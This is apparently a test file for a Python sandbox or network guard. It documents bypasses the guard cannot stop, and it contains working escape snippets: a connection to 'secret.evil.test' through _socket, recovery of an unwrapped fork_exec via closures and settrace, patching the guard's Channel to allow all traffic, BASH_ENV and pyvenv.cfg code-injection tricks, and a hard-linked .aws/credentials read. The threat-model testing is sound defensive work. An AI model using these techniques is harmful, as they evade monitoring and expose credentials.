"""What the witness does not hold, shown: the threat model says so, row by row, and none of it may be promised.

A test here that fails because the act was refused is good news: then the row in `docs/explanation/threat-model.md`
changes, and the script moves to `attacks.py`.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from tests.hostile.attacks import HELPERS, PRELUDE
from tests.hostile.targets import PYTHONS, RULES, Targets
from tests.shim.guests import guarded
from tests.support.interpreters import Interpreter

pytestmark = pytest.mark.hostile

#: name -> (target, first version where it is held after all, or None; code)
NOT_HELD: dict[str, tuple[str, tuple[int, int] | None, str]] = {
    # "the same through `_socket.socket`, the class below `socket.socket`"
    "a name given to _socket.socket": ("dns", None, "quiet(_socket.socket().connect, ('secret.evil.test', 1))"),
    "a name given to an unbound method": (
        "dns", None, "s = socket.socket(); quiet(_socket.socket.connect, s, ('secret.evil.test', 1))",
    ),
    # "tampering from inside"
    "the function that a wrapper wraps": (
        "mark", (3, 14),
        "import _posixsubprocess as p, multiprocessing.util as u\n"
        "p.fork_exec = [c.cell_contents for c in p.fork_exec.__closure__ if type(c.cell_contents) is type(len)][0]\n"
        "os.waitpid(u.spawnv_passfds(MARK.encode(), [b'x'], []), 0)",
    ),
    "a class of ours found among the subclasses": (
        "tcp", None,
        "for c in object.__subclasses__():\n"
        "    if c.__module__ == 'netguard.shim.channel' and c.__name__ == 'Channel':\n"
        "        c.ask = lambda *a: ['allow', '0', '', '']\n"
        "s = socket.socket(); s.connect((H, TCP)); reach(s)",
    ),
    "the frame of a function of ours": (
        "mark", (3, 14),
        "import _posixsubprocess as p, multiprocessing.util as u\nfound = []\n"
        "def trace(frame, event, arg):\n"
        "    if frame.f_code.co_name == 'fork_exec': found.append(frame.f_locals['original'])\n"
        "sys.settrace(trace)\nquiet(u.spawnv_passfds, b'/bin/true', [b'x'], [])\nsys.settrace(None)\n"
        "p.fork_exec = found[0]\n"
        "os.waitpid(u.spawnv_passfds(MARK.encode(), [b'x'], []), 0)",
    ),
}  # fmt: skip


@pytest.mark.parametrize("python", PYTHONS, ids=str)
@pytest.mark.parametrize("what", NOT_HELD)
def test_act_is_not_held_by_the_witness(
    what: str, python: Interpreter, targets: Targets, tmp_path: Path
) -> None:
    target, held_from, code = NOT_HELD[what]
    if held_from is not None and python.version >= held_from:
        pytest.skip(f"held from {held_from} on, by an event of C's own")
    targets.touched()
    script = f"{PRELUDE.format(place=targets.place)}{HELPERS}{code}\n"
    run = guarded(tmp_path, script, python, rules=RULES, within=targets.space)
    assert target in targets.touched(), (run.stdout, run.stderr)


def test_listening_through_the_class_below_is_not_seen(tmp_path: Path) -> None:
    """`listen` raises no event, and that type cannot be wrapped."""
    current = Interpreter(sys.version_info[:2], sys.executable)
    code = "import _socket\ns = _socket.socket()\ns.listen(1)\nprint(s.getsockname()[0])\n"
    run = guarded(tmp_path, code, current, rules=RULES)
    assert run.stdout == "0.0.0.0\n"
    assert run.lines("listen") == []


def test_what_other_languages_read_is_not_judged(tmp_path: Path) -> None:
    """Only variables by which any program, or a Python, is made to run code are told with a start."""
    current = Interpreter(sys.version_info[:2], sys.executable)
    (tmp_path / "evil.sh").write_text("echo ran\n")
    code = f"import subprocess\nsubprocess.run(['/bin/bash', '-c', ':'], env={{'BASH_ENV': '{tmp_path}/evil.sh'}})\n"
    run = guarded(tmp_path, code, current, rules=f"{RULES}  - {{log: exec, program: bash}}\n")
    assert run.stdout == "ran\n"


def test_library_beside_a_link_to_an_interpreter_runs_before_the_guard(tmp_path: Path) -> None:
    """`pyvenv.cfg` names another standard library, and the real path of the link is an interpreter's."""
    current = Interpreter(sys.version_info[:2], sys.executable)
    code = """\
        import encodings, inspect, os, subprocess, sys, sysconfig
        library = os.path.join("evil/lib", os.path.basename(sysconfig.get_path("stdlib")))
        for folder in (library, "evil/bin", "bin"):
            os.makedirs(folder)
        for name in os.listdir(sysconfig.get_path("stdlib")):
            if name != "encodings":
                os.symlink(os.path.join(sysconfig.get_path("stdlib"), name), os.path.join(library, name))
        os.mkdir(library + "/encodings")
        with open(library + "/encodings/__init__.py", "w") as file:
            text = f"import posix\\nposix.write(1, b'ran ')\\n__path__.append({encodings.__path__[0]!r})\\n"
            file.write(text + inspect.getsource(encodings))
        for folder in ("bin", "evil/bin"):
            os.symlink(os.path.realpath(sys.executable), folder + "/python3")
        with open("pyvenv.cfg", "w") as file:
            file.write(f"home = {os.getcwd()}/evil/bin\\n")
        subprocess.run(["bin/python3", "-c", "print('guarded')"])
    """
    run = guarded(tmp_path, code, current, rules=f"{RULES}  - {{log: exec, program: 'python*'}}\n")
    assert run.stdout == "ran guarded\n", run.stderr
    assert [line["exec"]["shim"] for line in run.lines("exec")] == ["on"]


def test_credential_file_by_another_name_is_not_seen(tmp_path: Path) -> None:
    """The names of well-known files are watched, not what a link leads to."""
    current = Interpreter(sys.version_info[:2], sys.executable)
    code = """\
        import os
        os.mkdir(".aws")
        with open("other", "w") as file:
            file.write("secret")
        os.link("other", ".aws/credentials")
        print(open("other").read())
    """
    run = guarded(tmp_path, code, current, rules=RULES)
    assert (run.stdout, run.lines("file")) == ("secret\n", [])
